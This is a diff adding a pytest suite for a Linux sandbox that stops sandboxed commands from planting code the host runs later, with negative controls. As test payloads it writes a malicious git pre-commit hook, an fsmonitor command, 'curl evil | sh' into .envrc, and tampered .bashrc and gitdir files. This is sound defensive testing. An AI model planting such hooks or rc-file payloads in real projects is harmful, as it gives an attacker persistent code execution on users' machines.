@@ -1,0 +1,244 @@
+"""Protected by default: a sandboxed command cannot plant code the host runs later.
+
+Inside every writable root, the names of hcp_linux.protected (``.git/hooks``,
+``.git/config``, shell rc files, ``.envrc``, editor and agent settings...) are read-only in
+the mount view when they exist, and whatever appears at one that was missing is removed
+after the run (a symlink changed is restored). Each attack is done for real inside the
+sandbox and its effect checked on the host's disk afterwards; each has a negative control
+(``--allow-write-protected``), where the very same command's write lands. Runs under both
+executors (``--executor native|ctypes``) and as root and nobody (scripts/test-unprivileged).
+"""
+from __future__ import annotations
+
+import os
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from sandboxing import (EXIT_REFUSED, TIMEOUT, assert_ok, jail, out,  # noqa: F401
+                        outside, read_receipt, run_cli, show, single_error_line)
+
+GIT_ENV = {"GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@example.com",
+           "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@example.com"}
+
+#: The attack: a hook git runs on the user's next commit, and an fsmonitor command git runs
+#: on the user's next `git status` (written by git itself, and by a plain append).
+PLANT = r"""
+printf '#!/bin/sh\ntouch /tmp/pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit \
+  && echo hook=ok || echo hook=denied
+git config core.fsmonitor 'touch /tmp/pwned' 2>/dev/null && echo fsmonitor=ok || echo fsmonitor=denied
+printf '[core]\n\thooksPath = /tmp\n' >> .git/config 2>/dev/null && echo append=ok || echo append=denied
+"""
+
+
+def _git(repo: Path, *args: str) -> subprocess.CompletedProcess:
+    return subprocess.run(["git", "-C", str(repo), *args], capture_output=True, timeout=TIMEOUT,
+                          env={**os.environ, **GIT_ENV}, stdin=subprocess.DEVNULL)
+
+
+def _repo(jail: Path) -> Path:
+    """A real repository in the jail, with one commit."""
+    assert _git(jail, "init", "-q").returncode == 0
+    (jail / "README").write_text("hello\n")
+    assert _git(jail, "add", "README").returncode == 0
+    assert _git(jail, "commit", "-q", "-m", "first").returncode == 0
+    return jail
+
+
+def _envs(extra: dict[str, str] | None = None) -> list[str]:
+    return [f"--env={k}={v}" for k, v in {**GIT_ENV, **(extra or {})}.items()]
+
+
+def _statuses(text: str) -> dict[str, str]:
+    return dict(line.split("=", 1) for line in text.splitlines() if "=" in line)
+
+
+def test_git_hook_and_fsmonitor_are_not_planted(jail: Path, tmp_path: Path) -> None:
+    repo = _repo(jail)
+    config = (repo / ".git" / "config").read_bytes()
+    receipt = tmp_path / "r.json"
+    r = run_cli(repo, "sh", "-c", PLANT, extra=[*_envs(), "--receipt", receipt])
+    assert r.returncode == 0, show(r)
+    assert _statuses(out(r)) == {"hook": "denied", "fsmonitor": "denied", "append": "denied"}, \
+        show(r)
+    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
+    assert (repo / ".git" / "config").read_bytes() == config
+    protected = read_receipt(receipt)["protected"]
+    assert protected[str(repo / ".git" / "hooks")] == "read-only bind"
+    assert protected[str(repo / ".git" / "config")] == "read-only bind"
+
+
+def test_allow_write_protected_lets_the_hook_land(jail: Path) -> None:
+    """Negative control: the same command, with the opt-out for .git/hooks (by name) and
+    .git/config (by path): both writes land."""
+    repo = _repo(jail)
+    config = (repo / ".git" / "config").read_bytes()
+    r = run_cli(repo, "sh", "-c", PLANT, extra=[
+        *_envs(), "--allow-write-protected", ".git/hooks",
+        "--allow-write-protected", str(repo / ".git" / "config")])
+    assert r.returncode == 0, show(r)
+    assert _statuses(out(r)) == {"hook": "ok", "fsmonitor": "ok", "append": "ok"}, show(r)
+    assert (repo / ".git" / "hooks" / "pre-commit").exists()
+    assert (repo / ".git" / "config").read_bytes() != config
+
+
+def test_git_commit_still_works(jail: Path) -> None:
+    """Agents commit: objects, index, refs and logs stay writable."""
+    repo = _repo(jail)
+    script = "echo more > f && git add f && git commit -q -m second && git status --short"
+    r = run_cli(repo, "sh", "-c", script, extra=_envs())
+    assert r.returncode == 0, show(r)
+    log = _git(repo, "log", "--format=%s")
+    assert log.stdout.decode().split() == ["second", "first"], log
+    assert _git(repo, "status", "--short").stdout == b""
+
+
+def test_missing_envrc_is_removed_after_the_run(jail: Path, tmp_path: Path) -> None:
+    receipt = tmp_path / "r.json"
+    script = ("echo 'curl evil | sh' > .envrc && mkdir -p .vscode && echo '{}' > "
+              ".vscode/tasks.json && ln -s /etc/passwd .mcp.json && cat .envrc")
+    r = run_cli(jail, "sh", "-c", script, extra=["--receipt", receipt])
+    assert r.returncode == 0, show(r)
+    assert "curl evil" in out(r)  # written during the run
+    for name in (".envrc", ".vscode", ".mcp.json"):
+        assert not os.path.lexists(jail / name), name
+    rec = read_receipt(receipt)
+    for name in (".envrc", ".vscode", ".mcp.json"):
+        assert rec["protected"][str(jail / name)] == "removed after the run"
+        assert rec["protected_sweep"][str(jail / name)] == "removed", rec["protected_sweep"]
+    assert str(jail / ".bashrc") not in rec["protected_sweep"]  # nothing appeared there
+
+
+def test_missing_envrc_stays_when_allowed(jail: Path) -> None:
+    """Negative control: the same command with the opt-out: the file stays."""
+    r = run_cli(jail, "sh", "-c", "echo 'curl evil | sh' > .envrc",
+                extra=["--allow-write-protected", ".envrc"])
+    assert r.returncode == 0, show(r)
+    assert (jail / ".envrc").read_text() == "curl evil | sh\n"
+
+
+def test_bashrc_symlink_is_restored(jail: Path, tmp_path: Path) -> None:
+    (jail / "dotfiles").mkdir()
+    (jail / "dotfiles" / "bashrc").write_text("alias ll='ls -l'\n")
+    (jail / ".bashrc").symlink_to("dotfiles/bashrc")
+    receipt = tmp_path / "r.json"
+    script = ("echo evil >> .bashrc; echo through=$?; rm .bashrc && echo evil > .bashrc "
+              "&& echo replaced=ok")
+    r = run_cli(jail, "sh", "-c", script, extra=["--receipt", receipt])
+    assert r.returncode == 0, show(r)
+    assert "replaced=ok" in out(r), show(r)
+    assert "through=0" not in out(r), show(r)  # its target is read-only too
+    assert os.readlink(jail / ".bashrc") == "dotfiles/bashrc"
+    assert (jail / "dotfiles" / "bashrc").read_text() == "alias ll='ls -l'\n"
+    rec = read_receipt(receipt)
+    assert rec["protected"][str(jail / ".bashrc")] == "restored after the run"
+    assert rec["protected_sweep"][str(jail / ".bashrc")] == "restored"
+
+
+def test_bashrc_symlink_replaced_when_allowed(jail: Path) -> None:
+    """Negative control: with the opt-out the replacement stays."""
+    (jail / "dotfiles").mkdir()
+    (jail / "dotfiles" / "bashrc").write_text("alias ll='ls -l'\n")
+    (jail / ".bashrc").symlink_to("dotfiles/bashrc")
+    r = run_cli(jail, "sh", "-c", "rm .bashrc && echo evil > .bashrc",
+                extra=["--allow-write-protected", ".bashrc"])
+    assert r.returncode == 0, show(r)
+    assert not (jail / ".bashrc").is_symlink()
+    assert (jail / ".bashrc").read_text() == "evil\n"
+
+
+def test_gitdir_pointer_is_read_only(jail: Path, outside: Path) -> None:
+    """``.git`` as a file names another repository (whose hooks git runs): read-only."""
+    (jail / ".git").write_text(f"gitdir: {outside}\n")
+    r = run_cli(jail, "sh", "-c", "echo 'gitdir: /tmp/evil' > .git; echo status=$?")
+    assert r.returncode == 0, show(r)
+    assert "status=0" not in out(r), show(r)
+    assert (jail / ".git").read_text() == f"gitdir: {outside}\n"
+
+
+def test_policy_file_in_the_jail_is_read_only(jail: Path) -> None:
+    """The --policy file would widen the next run: read-only when it lies in the jail."""
+    policy = jail / "hcp.toml"
+    policy.write_text('allow_bins = ["sh"]\n')
+    r = run_cli(jail, "sh", "-c", "echo 'write_roots = [\"/\"]' >> hcp.toml; echo status=$?",
+                extra=["--policy", policy])
+    assert r.returncode == 0, show(r)
+    assert "status=0" not in out(r), show(r)
+    assert policy.read_text() == 'allow_bins = ["sh"]\n'
+
+
+def test_unknown_name_is_refused(jail: Path) -> None:
+    r = run_cli(jail, "true", extra=["--allow-write-protected", ".foo"])
+    assert r.returncode == EXIT_REFUSED, show(r)
+    line = single_error_line(r)
+    assert "allow_write_protected" in line and ".git/hooks" in line and ".envrc" in line
+
+
+def test_existing_protected_names_are_cached_per_run(jail: Path) -> None:
+    """What exists changes between runs (git init makes .git): the second run binds what
+    the first one could not, and a fresh .git/hooks left by the first run is gone."""
+    r = run_cli(jail, "sh", "-c", "git init -q && ls .git/hooks | head -1", extra=_envs())
+    assert r.returncode == 0, show(r)
+    assert out(r).strip(), show(r)  # git made samples during the run
+    assert not (jail / ".git" / "hooks").exists()  # .git was missing: its hooks are not kept
+    assert not (jail / ".git" / "config").exists()
+    assert_ok(subprocess.run(["git", "-C", str(jail), "init", "-q"], capture_output=True,
+                             timeout=TIMEOUT))
+    r = run_cli(jail, "sh", "-c", "echo x > .git/hooks/pre-commit; echo status=$?")
+    assert "status=0" not in out(r), show(r)
+    assert not (jail / ".git" / "hooks" / "pre-commit").exists()
+
+
+@pytest.mark.parametrize("flag", ["--write-root"])
+def test_write_roots_are_protected_too(jail: Path, tmp_path: Path, flag: str) -> None:
+    extra = tmp_path / "extra"
+    extra.mkdir()
+    (extra / ".zshrc").write_text("# mine\n")
+    r = run_cli(jail, "sh", "-c", f"echo evil >> {extra}/.zshrc; echo evil > {extra}/.profile",
+                extra=[flag, extra])
+    assert (extra / ".zshrc").read_text() == "# mine\n", show(r)
+    assert not (extra / ".profile").exists()
+
+
+def test_a_served_run_sweeps_too(tmp_path: Path, jail: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    """Through `hcp-linux serve` the client starts the sandbox, and sweeps after it; the
+    served receipt says so (its served_by shows the server was used)."""
+    import sandboxing
+    from test_serve import start_server, stop_server
+    monkeypatch.setattr(sandboxing, "EXECUTOR_ARGS", [])  # the server plans for hcp-exec
+    server = start_server(tmp_path)
+    try:
+        (jail / ".profile").symlink_to("/dev/null")
+        receipt = tmp_path / "r.json"
+        r = run_cli(jail, "sh", "-c", "echo evil > .envrc; rm .profile; echo x > .profile",
+                    extra=["--receipt", receipt], env=server.env())
+    finally:
+        stop_server(server)
+    assert r.returncode == 0, show(r)
+    rec = read_receipt(receipt)
+    assert "served_by" in rec
+    assert not os.path.lexists(jail / ".envrc")
+    assert os.readlink(jail / ".profile") == "/dev/null"
+    assert rec["protected_sweep"] == {str(jail / ".envrc"): "removed",
+                                      str(jail / ".profile"): "restored"}
+
+
+def test_without_a_mount_view_the_sweep_is_all(jail: Path, tmp_path: Path) -> None:
+    """No namespaces (unshare denied, --allow-degraded namespaces): nothing can be bound,
+    what appears at a missing name is still removed, and the receipt says what is left."""
+    import errno
+
+    from sandboxing import deny_run_cli
+    (jail / ".bashrc").write_text("# mine\n")
+    receipt = tmp_path / "r.json"
+    r = deny_run_cli(["unshare"], errno.EPERM, jail, "sh", "-c", "echo evil > .envrc",
+                     extra=["--allow-degraded", "namespaces", "--receipt", receipt])
+    assert r.returncode == 0, show(r)
+    rec = read_receipt(receipt)
+    assert rec["namespaces"] == []
+    assert not (jail / ".envrc").exists()
+    assert rec["protected"][str(jail / ".envrc")] == \
+        "removed after the run (no mount view: the sweep is the only protection)"
+    assert rec["protected"][str(jail / ".bashrc")] == "writable: no mount view to make it read-only"
+    assert rec["protected_sweep"] == {str(jail / ".envrc"): "removed"}
